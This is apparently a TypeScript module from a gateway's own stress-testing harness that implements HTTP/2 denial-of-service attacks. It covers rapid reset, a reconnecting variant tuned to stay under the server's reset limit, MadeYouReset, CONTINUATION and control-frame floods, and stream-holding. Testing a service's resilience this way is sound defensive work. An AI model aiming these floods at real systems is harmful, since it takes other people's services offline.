// Floods of frames over HTTP/2, and requests that do not end. Without a credential, unless the name has `node` in it.
import * as frames from '@fairlead/gateway-grpc/testing/raw-http2'
import { type Attacker, inTurn } from '../attacker/attacker.ts'
import { Http2Connection, type Http2Options } from '../attacker/http2.ts'
import type { AttackTable } from './attack.ts'

const json = [['content-type', 'application/json']] as const
const streamsOfConnection = 1_000

/** Attacks over HTTP/2. */
export const http2Attacks: AttackTable = {
  'console-files:zero-window': (attacker) => {
    const { consoleFile } = attacker.target
    holdStreams(attacker, 10, 4_000, { window: 0 }, (connection) => {
      connection.request('GET', consoleFile, [], true)
    })
  },
  'http2:unfinished-public': (attacker) => {
    holdStreams(attacker, 100, 20_000, {}, (connection) => {
      connection.request('POST', '/v1/session/', json, false)
    })
  },
  'http2:unfinished-node': (attacker) => {
    const path = `/${attacker.target.tokens[0]}`
    holdStreams(attacker, 100, 20_000, {}, (connection) => {
      connection.request('POST', path, json, false)
    })
  },
  'http2:unfinished-bodies': (attacker) => {
    const body = Buffer.alloc(15 << 10, ' ')
    holdStreams(attacker, 16, 2_000, {}, (connection) => {
      connection.data(connection.request('POST', '/v1/session/', json, false), body)
    })
  },
  'http2:connect-and-upgrade': (attacker) => {
    const connections = attacker.hold(1, () => new Http2Connection(attacker))
    attacker.repeat(20, () => {
      for (const connection of connections) {
        connection.request('CONNECT', '/', [], true)
        connection.request('GET', '/ws', [], true)
      }
    })
  },
  'http2:rapid-reset': (attacker) => {
    repeatOver(attacker, 16, 20_000, (connection) => {
      connection.reset(connection.request('GET', '/healthz', [], true))
    })
  },
  'http2:rapid-reset-node': (attacker) => {
    const path = `/${attacker.target.tokens[0]}`
    repeatOver(attacker, 16, 20_000, (connection) => {
      connection.reset(connection.request('POST', path, json, false))
    })
  },
  // Each connection stays below the number of resets that closes it.
  'http2:rapid-reset-reconnecting': (attacker) => {
    attacker.repeat(20, () => {
      const connection = new Http2Connection(attacker)
      setTimeout(() => {
        if (!connection.isWritable) return
        for (let count = 0; count < 900; count += 1)
          connection.reset(connection.request('GET', '/healthz', [], true))
        setTimeout(() => connection.close(), 50)
      }, 50)
    })
  },
  // Requests after which the client breaks the rules of flow control, so that the server resets the stream.
  'http2:made-you-reset': (attacker) => {
    repeatOver(attacker, 16, 5_000, (connection) => {
      const id = connection.request('POST', '/healthz', json, false)
      connection.write(frames.windowUpdate(id, 0))
    })
  },
  'http2:ping-flood': (attacker) => flood(attacker, frames.ping()),
  'http2:settings-flood': (attacker) => flood(attacker, frames.settings([[4, 65_535]])),
  'http2:priority-flood': (attacker) => flood(attacker, frames.priority(1)),
  'http2:window-update-flood': (attacker) => flood(attacker, frames.windowUpdate(0, 1)),
  'http2:empty-data-flood': (attacker) => {
    repeatOver(attacker, 16, 2_000, (connection) => {
      const id = connection.request('POST', '/healthz', json, false)
      const empty = frames.data(id, Buffer.alloc(0))
      connection.write(Buffer.concat(Array.from({ length: 50 }, () => empty)))
    })
  },
  'http2:continuation-flood': (attacker) => {
    const fields = Array.from({ length: 50 }, (_, at) => [`x-${at}`, 'y'.repeat(50)] as const)
    repeatOver(attacker, 16, 2_000, (connection) => {
      const id = connection.unfinishedRequest('GET', '/healthz', [])
      for (let count = 0; count < 4; count += 1) connection.continueHeaders(id, fields)
    })
  },
  'http2:small-continuations': (attacker) => {
    repeatOver(attacker, 16, 2_000, (connection) => {
      const id = connection.unfinishedRequest('GET', '/healthz', [])
      for (let count = 0; count < 100; count += 1) connection.continueHeaders(id, [])
    })
  },
  'http2:header-flood': (attacker) => {
    const fields = Array.from({ length: 90 }, (_, at) => [`x-${at}`, 'y'.repeat(100)] as const)
    repeatOver(attacker, 16, 2_000, (connection) => {
      connection.request('GET', '/healthz', fields, true)
    })
  },
  'http2:handshakes': (attacker) => {
    attacker.repeat(300, () => {
      const connection = new Http2Connection(attacker)
      setTimeout(() => connection.close(), 100)
    })
  },
}

/** Opens streams at a rate over some connections, as many as a connection may have. */
function holdStreams(
  attacker: Attacker,
  connections: number,
  perSecond: number,
  options: Http2Options,
  open: (connection: Http2Connection) => void,
): void {
  const next = inTurn(attacker.hold(connections, () => new Http2Connection(attacker, options)))
  attacker.repeat(perSecond, () => {
    const connection = next()
    if (connection?.isWritable === true && connection.openStreams < streamsOfConnection) open(connection)
  })
}

function repeatOver(
  attacker: Attacker,
  connections: number,
  perSecond: number,
  unit: (connection: Http2Connection) => void,
): void {
  const next = inTurn(attacker.hold(connections, () => new Http2Connection(attacker)))
  attacker.repeat(perSecond, () => {
    const connection = next()
    if (connection?.isWritable === true) unit(connection)
  })
}

/** Sends the same frame 100,000 times a second. */
function flood(attacker: Attacker, frame: Buffer): void {
  const many = Buffer.concat(Array.from({ length: 100 }, () => frame))
  repeatOver(attacker, 16, 1_000, (connection) => connection.write(many))
}
